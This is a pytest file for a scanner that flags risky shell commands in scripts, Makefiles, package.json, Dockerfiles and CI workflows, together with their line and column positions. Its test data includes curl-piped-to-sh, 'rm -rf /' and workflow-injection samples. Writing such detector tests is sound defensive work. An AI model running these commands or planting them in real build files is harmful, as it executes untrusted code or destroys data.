"""Shell texts in files: which files are read, what is found, and exactly where."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from sandguard.commands.paths import Place
from sandguard.scan.kinds import kind_of, may_hold
from sandguard.scan.scripts import Scanner, files_below

if TYPE_CHECKING:
    from pathlib import Path

    from sandguard.placed import ScannedFile

PLACE = Place("/work/space", "/work/space", "/home/user")
FETCH = "curl -s https://example.com/x | sh"


def found(text: str, kind: str, path: str) -> list[tuple[str, str, str]]:
    """Return level and rule, and the two ends, of all that is found in a text."""
    scanned = Scanner(PLACE).text(text, kind, path)
    assert not scanned.error
    return [(f"{f.level} {f.finding.rule}", str(f.start), str(f.end)) for f in scanned.findings]


BLOCK = "block execution/fetched-content"


@pytest.mark.parametrize(
    ("kind", "path", "text", "expected"),
    [
        ("shell", "x.sh", f"#!/bin/sh\n\n  {FETCH}\n", [(BLOCK, "3:35", "3:37")]),
        ("shell", "x.sh", f"echo hi\r\n{FETCH}; ls\r\n", [(BLOCK, "2:33", "2:35")]),
        ("shell", "x.sh", "eval 'rm -rf /'\n", [("block impact/protected-delete", "1:6", "1:16")]),
        ("shell", "x.sh", "exec < <(curl -s https://example.com/x)\n", [(BLOCK, "1:1", "1:40")]),
        ("make", "Makefile", f"a:\n\t@set -e; \\\n\t  {FETCH}\n", [(BLOCK, "3:36", "3:38")]),
        ("make", "Makefile", "X = /\na:\n\trm -rf $(X)\n", [("block impact/protected-delete", "3:9", "3:13")]),
        ("package", "package.json", f'{{"scripts": {{"a": "\\u0065cho && {FETCH}"}}}}', [(BLOCK, "1:65", "1:67")]),
        ("dockerfile", "Dockerfile", f"FROM a\nRUN set -e; \\\n  # c\n  {FETCH}\n", [(BLOCK, "4:35", "4:37")]),
        ("dockerfile", "Dockerfile", f"FROM a\nRUN <<E\nls\n{FETCH}\nE\n", [(BLOCK, "4:33", "4:35")]),
        (
            "dockerfile",
            "Dockerfile",
            "FROM a\nRUN curl -o /x https://example.com/x\nRUN ls\nRUN sh /x\n",
            [(BLOCK, "4:8", "4:10")],
        ),
        (
            "workflow",
            ".github/workflows/a.yml",
            "jobs:\n  a:\n    steps:\n    - run: curl -o x https://example.com/x\n    - run: bash x\n",
            [(BLOCK, "5:17", "5:18")],
        ),
        (
            "workflow",
            ".github/workflows/a.yml",
            f"jobs:\n  a:\n    steps:\n      - run: |\n          ls\n          {FETCH}\n",
            [(BLOCK, "6:43", "6:45")],
        ),
        (
            "workflow",
            ".github/workflows/a.yml",
            f"jobs:\n  a:\n    steps:\n      - run: echo ${{{{ matrix.x }}}} && {FETCH}\n",
            [(BLOCK, "4:70", "4:72")],
        ),
        (
            "workflow",
            ".github/workflows/a.yml",
            'jobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
            [("block analysis/spliced-text", "4:20", "4:51")],
        ),
    ],
)
def test_attack_is_found_at_its_place(kind: str, path: str, text: str, expected: list[tuple[str, str, str]]) -> None:
    """A finding has the line and column of its first and last character in the file, whatever stands around it."""
    assert found(text, kind, path) == expected


@pytest.mark.parametrize(
    ("kind", "path", "text"),
    [
        ("shell", "x.sh", f"#!/bin/sh\n# {FETCH}\necho '{FETCH}'\n"),
        ("shell", "x.sh", "#!/bin/bash\nexec </dev/null # nobody answers\nls\n"),
        ("make", "Makefile", f"# {FETCH}\nX = {FETCH}\na:\n\trm -rf build\n\techo '{FETCH}'\n"),
        ("package", "package.json", f'{{"description": "{FETCH}", "scripts": {{"a": "rm -rf dist && tsc"}}}}'),
        ("dockerfile", "Dockerfile", "FROM a\nRUN curl -o /x https://example.com/x\nFROM b\nRUN sh /x\n"),
        ("dockerfile", "Dockerfile", "FROM a\nRUN echo x >> ~/.bashrc && mv x /root/.profile\n"),
        (
            "workflow",
            ".github/workflows/a.yml",
            "jobs:\n  a: {steps: [{run: 'curl -o x https://example.com/x'}]}\n  b: {steps: [{run: bash x}]}\n",
        ),
        (
            "dockerfile",
            "Dockerfile",
            "FROM a\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n",
        ),
        (
            "dockerfile",
            "Dockerfile",
            "FROM a\nRUN rm -rf /usr/share/doc && useradd app && chown -R app /srv && echo x > /etc/x\n",
        ),
        (
            "workflow",
            "a/action.yml",
            "runs:\n  steps:\n  - run: echo ${{ inputs.name }} > $GITHUB_OUTPUT\n    shell: bash\n",
        ),
        (
            "workflow",
            ".github/workflows/a.yml",
            "jobs:\n  a:\n    steps:\n    - env: {T: '${{ github.event.issue.title }}'}\n      run: echo \"$T\"\n",
        ),
    ],
)
def test_harmless_look_alike_is_not_found(kind: str, path: str, text: str) -> None:
    """The same words as data, the usual lines of such files, and the safe way to write a risky one are left alone."""
    assert found(text, kind, path) == []


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("a/x.sh", "", "shell"),
        ("a/x.zsh", "", "shell"),
        ("bin/run", "#!/usr/bin/env bash\n", "shell"),
        ("bin/run", "#!/usr/bin/env python3\n", ""),
        ("bin/run", "#!/usr/bin/env -u X bash\n", "shell"),
        ("bin/run", "#! /usr/bin/env -Sbash -e\r\n", "shell"),
        ("bin/run", "#!/usr/bin/env --split-string=A=1 /bin/zsh\n", "shell"),
        ("bin/run", "#!/usr/bin/env -u bash python3\n", ""),
        ("bin/run", "ls\n", ""),
        ("Makefile", "", "make"),
        ("a/rules.mk", "", "make"),
        ("package.json", "", "package"),
        ("a.json", "", ""),
        ("Dockerfile", "", "dockerfile"),
        ("a/Dockerfile.dev", "", "dockerfile"),
        ("dev.dockerfile", "", "dockerfile"),
        ("Containerfile", "", "dockerfile"),
        (".github/workflows/ci.yaml", "", "workflow"),
        ("x/.github/workflows/ci.yml", "", "workflow"),
        ("action.yml", "", "workflow"),
        ("docs/mkdocs.yml", "", ""),
        ("x.py", "#!/bin/sh\n", "shell"),
    ],
)
def test_kinds(path: str, text: str, expected: str) -> None:
    """The name and place of a file tell its kind, or else its first line."""
    assert kind_of(path, text) == expected


def test_dialect_of_a_script() -> None:
    """The first line names the shell, then the ending, then the option."""
    text = "print -z 'x'; [[ a == (a|b) ]]\n"

    def has_fault(path: str, first: str, dialect: str) -> bool:
        scanned = Scanner(PLACE, dialect=dialect).text(first + text, "shell", path)
        return any(f.finding.rule.startswith("analysis/") for f in scanned.findings)

    assert has_fault("x", "#!/bin/bash\n", "zsh")
    assert not has_fault("x", "#!/usr/bin/zsh\n", "bash")
    assert not has_fault("x.zsh", "", "bash")
    assert not has_fault("x", "", "zsh")
    assert has_fault("x", "", "bash")


def test_folder_is_gone_through_in_order(tmp_path: Path) -> None:
    """Files are found below a folder, sorted; tools' folders and links are left out."""
    for name in ("b.sh", "a/z.sh", "a/Makefile", "node_modules/x.sh", ".git/hooks/x.sh", "notes.txt", "a/tool"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("ls\n", encoding="utf-8")
    (tmp_path / "link.sh").symlink_to("b.sh")
    (tmp_path / "out").symlink_to("/")

    names = [path.removeprefix(f"{tmp_path}/") for path, _ in files_below(str(tmp_path))]

    assert names == ["a/Makefile", "a/tool", "a/z.sh", "b.sh"]
    assert not may_hold("notes.txt")


def scanned(path: Path, content: bytes) -> ScannedFile:
    """Return what is said of a file that was named."""
    path.write_bytes(content)
    result = Scanner(PLACE).file(str(path))
    assert result is not None
    return result


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("x.sh", b"echo \xff\n", "not UTF-8 at byte 5"),
        ("x.sh", b"a\nb\0c\n", "2:2: it holds a NUL byte"),
        ("x.sh", b"#" * ((1 << 20) + 1), "larger than 1048576 bytes"),
        ("x.sh", b"#!/usr/bin/perl\n", "1:1: it is a script of perl, which is no shell that is read"),
        ("notes.txt", b"ls\n", "no kind of file that is scanned"),
        ("package.json", b'{"a": 1,}', "1:9: a key is missing"),
        ("Dockerfile", b"hello\n", "1:1: it is no Dockerfile: it has no FROM"),
        ("ci.yml", b"jobs:\n  a: [\n", "3:1: a bracket is not closed"),
    ],
)
def test_file_that_cannot_be_read_is_a_named_error(tmp_path: Path, name: str, content: bytes, error: str) -> None:
    """What is not read says why and where; it is never taken for harmless."""
    assert scanned(tmp_path / name, content).error == error


@pytest.mark.parametrize(
    ("name", "content", "is_error"),
    [
        ("data", b"\xff\xfe\0", False),
        ("LICENCE", b"caf\xe9\n", False),
        ("large", b"x" * ((1 << 20) + 1), False),
        ("run", b"#!/bin/sh\necho \xe9\n", True),
        ("large.sh", b"#" * ((1 << 20) + 1), True),
        ("Makefile", b"a:\n\techo \xe9\n", True),
    ],
)
def test_file_found_in_a_folder_is_an_error_only_if_it_holds_shell_text(
    tmp_path: Path, name: str, content: bytes, is_error: bool
) -> None:
    """Data beside the scripts is passed over; a script or Makefile that cannot be read is not."""
    (tmp_path / name).write_bytes(content)
    result = Scanner(PLACE).file(str(tmp_path / name), name, is_named=False)

    assert (result is not None and bool(result.error)) is is_error


def test_what_is_no_regular_file_is_not_waited_for(tmp_path: Path) -> None:
    """A FIFO and a device are errors at once; a file that is not there is one too."""
    os.mkfifo(tmp_path / "x.sh")
    scanner = Scanner(PLACE)

    for path, error in (
        (str(tmp_path / "x.sh"), "not a regular file"),
        ("/dev/zero", "not a regular file"),
        (str(tmp_path / "none.sh"), "No such file or directory"),
    ):
        result = scanner.file(path)
        assert result is not None
        assert result.error == error


def test_byte_order_mark_is_no_text(tmp_path: Path) -> None:
    """A mark at the very start is no part of the first line."""
    result = scanned(tmp_path / "x.sh", f"\ufeff{FETCH}\n".encode())

    assert [(f.finding.rule, str(f.start)) for f in result.findings] == [("execution/fetched-content", "1:33")]


def test_text_of_no_known_shell_is_named(tmp_path: Path) -> None:
    """A step or recipe in another language is listed as not read."""
    result = scanned(tmp_path / "Makefile", b"SHELL = /usr/bin/python3\na:\n\tprint()\n")

    assert (result.unread, result.texts, result.error) == (("a",), 1, "")


def test_recipe_runs_in_the_folder_of_its_file() -> None:
    """What a recipe removes lies in the folder of the Makefile."""
    result = Scanner(PLACE).text("a:\n\trm -rf ../build ../../x\n", "make", "/work/space/sub/Makefile")

    assert [str(f.start) for f in result.findings] == ["2:18"]
